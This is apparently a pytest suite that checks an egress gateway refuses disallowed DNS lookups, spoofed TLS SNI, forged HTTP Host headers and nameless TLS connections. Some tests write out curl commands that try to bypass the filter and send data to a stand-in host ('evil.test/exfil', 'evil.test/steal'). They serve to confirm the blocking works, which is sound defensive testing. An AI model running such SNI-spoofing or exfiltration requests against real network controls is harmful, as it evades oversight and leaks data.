"""What a constrained client cannot do, and how each refusal looks to it:

- a lookup of a name that is not allowed is NXDOMAIN (SOA in authority, EDE 15 Blocked);
- a TLS connection to the gateway naming a blocked host in its SNI (the client resolved an
  allowed name, or used the gateway's address, and lies in the ClientHello) gets a fatal TLS
  alert, and the real server never sees it;
- on a routed port (465 here: one exact-name rule), a ClientHello naming another host is
  refused before any byte is relayed;
- an HTTP request whose Host (or absolute-form target) names a blocked host gets 403;
- a TLS connection with no name (an IP literal) is refused.
"""

import dns.edns
import dns.flags
import dns.rcode
import dns.rdatatype
import pytest

from gh_testlib import scaled_arg
import helpers
import topology as T

CLIENT_ADDRS = (T.CLIENT4, T.CLIENT6)


def _ede_codes(resp):
    return [o.code for o in resp.options if o.otype == dns.edns.OptionType.EDE]


@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
@pytest.mark.parametrize("qname", ["evil.test", "blocked.example.test"])
def test_blocked_lookup_is_nxdomain(topo, qname, tcp):
    for qtype in ("A", "AAAA", "TXT", "HTTPS"):
        topo.expect_query(qname, "deny", (T.CLIENT4,))
        r = helpers.ask(topo, qname, qtype, tcp=tcp)
        assert r.rcode() == dns.rcode.NXDOMAIN, (qtype, r)
        assert r.flags & dns.flags.AA and r.flags & dns.flags.RA, r
        assert not r.answer, r
        assert [rr.rdtype for rr in r.authority] == [dns.rdatatype.SOA], r
        assert _ede_codes(r) == [15], r            # Extended DNS Error 15: Blocked
    r = helpers.ask(topo, qname, "A", edns=False, tcp=tcp)
    assert r.rcode() == dns.rcode.NXDOMAIN and r.edns < 0, r    # no OPT when none was sent


def test_allowed_sibling_and_wildcard_apex_are_distinct(topo):
    """Only the allowed names are answered: api.example.test yes, blocked.example.test no;
    **.cdn.example.test covers a.b.cdn.example.test but not cdn.example.test itself."""
    cases = [("api.example.test", "NOERROR"), ("API.Example.TEST", "NOERROR"),
             ("blocked.example.test", "NXDOMAIN"), ("a.b.cdn.example.test", "NOERROR"),
             ("cdn.example.test", "NXDOMAIN"), ("api.example.test.evil.test", "NXDOMAIN")]
    for qname, want in cases:
        topo.expect_query(qname, "allow" if want == "NOERROR" else "deny", (T.CLIENT4,))
        r = helpers.ask(topo, qname, "A")
        assert dns.rcode.to_text(r.rcode()) == want, (qname, r)
        if want == "NOERROR":
            assert [rr.to_text() for rrset in r.answer for rr in rrset] == [T.GW_IN4]
            assert r.question[0].name.to_text().rstrip(".") == qname   # 0x20 case kept


def test_blocked_sni_gets_a_tls_alert(topo):
    mark = topo.mark()
    r = topo.client(["openssl", "s_client", "-connect", f"{T.GW_IN4}:443", "-servername",
                     "blocked.example.test", "-CAfile", topo.ca_path], input="")
    topo.expect_conn(443, "deny", "blocked.example.test", (T.CLIENT4,), reason="not-allowed")
    assert r.returncode != 0
    assert helpers.tls_alert(r.stderr) == "access denied", r.stderr
    assert "no peer certificate available" in r.stdout
    e = topo.wait_audit("gatehouse-forwarder", lambda e: e.get("name") ==
                        "blocked.example.test", since=mark)[-1]
    assert e["verdict"] == "deny" and e["reason"] == "not-allowed" and e["via"] == "sni"
    assert not [w for w in topo.web_requests() if w["sni"] == "blocked.example.test"]


def test_sni_spoofing_with_connect_to_is_refused(topo):
    """The client resolves an allowed name (so it reaches the gateway) but asks for another
    host in the ClientHello: curl --connect-to evil.test:443:api.example.test:443."""
    mark = topo.mark()
    r = topo.client(["curl", "-sS", "-4", "--max-time", scaled_arg(10), "--cacert", topo.ca_path,
                     "--connect-to", "evil.test:443:api.example.test:443",
                     "https://evil.test/exfil"])
    topo.expect_query("api.example.test", "allow", CLIENT_ADDRS)
    topo.expect_conn(443, "deny", "evil.test", (T.CLIENT4,), reason="not-allowed")
    assert r.returncode == 35, (r.returncode, r.stderr)
    assert helpers.tls_alert(r.stderr) == "access denied", r.stderr
    topo.wait_audit("gatehouse-forwarder", lambda e: e.get("name") == "evil.test" and
                    e.get("verdict") == "deny", since=mark)
    assert not [w for w in topo.web_requests() if w["path"] == "/exfil"]


def test_sni_mismatch_on_routed_port_is_refused(topo):
    """465 is covered by one exact-name rule, so the forwarder dials smtp.mail.test at once
    (SMTP servers speak first); a ClientHello naming another host is still refused before a
    single client byte is relayed."""
    mark = topo.mark()
    n_mails = len(topo.mails())
    r = topo.client(["openssl", "s_client", "-connect", f"{T.GW_IN4}:465", "-servername",
                     "evil.test", "-CAfile", topo.ca_path], input="")
    topo.expect_conn(465, "deny", "evil.test", (T.CLIENT4,), reason="name-mismatch")
    assert r.returncode != 0
    assert helpers.tls_alert(r.stderr) == "access denied", r.stderr
    e = topo.wait_audit("gatehouse-forwarder", lambda e: e.get("port") == 465 and
                        e.get("verdict") == "deny", since=mark)[-1]
    assert (e["reason"], e["name"], e["via"], e["route"]) == (
        "name-mismatch", "evil.test", "sni", "smtp.mail.test:465"), e
    assert e["detail"] == "port 465 is routed to smtp.mail.test", e
    assert len(topo.mails()) == n_mails


@pytest.mark.parametrize("how", ["host-header", "absolute-form"])
def test_blocked_host_gets_403(topo, how):
    mark = topo.mark()
    if how == "host-header":
        argv = ["curl", "-sS", "-4", "-i", "--max-time", scaled_arg(10), "-H", "Host: evil.test",
                "http://www.example.test/steal"]
    else:   # the gateway used as an HTTP proxy: GET http://evil.test/steal HTTP/1.1
        argv = ["curl", "-sS", "-4", "-i", "--max-time", scaled_arg(10), "--proxy",
                "http://www.example.test:80", "http://evil.test/steal"]
    r = topo.client(argv)
    topo.expect_query("www.example.test", "allow", CLIENT_ADDRS)
    topo.expect_conn(80, "deny", "evil.test", (T.CLIENT4,), reason="not-allowed")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout
    assert "evil.test" in r.stdout.split("\n\n", 1)[1]
    e = topo.wait_audit("gatehouse-forwarder", lambda e: e.get("name") == "evil.test" and
                        e.get("port") == 80, since=mark)[-1]
    assert e["verdict"] == "deny" and e["via"] == "host" and e["reason"] == "not-allowed"
    assert not [w for w in topo.web_requests() if w["path"].endswith("/steal")]


def test_tls_without_a_name_is_refused(topo):
    """https://GATEWAY-IP/: curl sends no SNI for an IP literal, so there is no name to
    check; the forwarder refuses (unrecognized_name) instead of guessing."""
    mark = topo.mark()
    r = topo.client(["curl", "-sS", "-k", "--max-time", scaled_arg(10), f"https://{T.GW_IN4}/"])
    topo.expect_conn(443, "deny", None, (T.CLIENT4,), reason="no-name")
    assert r.returncode == 35, (r.returncode, r.stderr)
    assert helpers.tls_alert(r.stderr) == "unrecognized name", r.stderr
    topo.wait_audit("gatehouse-forwarder", lambda e: e.get("port") == 443 and
                    e.get("reason") == "no-name", since=mark)


def test_ports_nobody_allowed_are_closed(topo):
    """The forwarder listens only on the ports the allowlist names."""
    r = topo.client(["curl", "-sS", "-4", "--max-time", scaled_arg(5), "--cacert", topo.ca_path,
                     "https://api.example.test:8443/"])
    topo.expect_query("api.example.test", "allow", CLIENT_ADDRS)
    assert r.returncode == 7, (r.returncode, r.stderr)      # connection refused
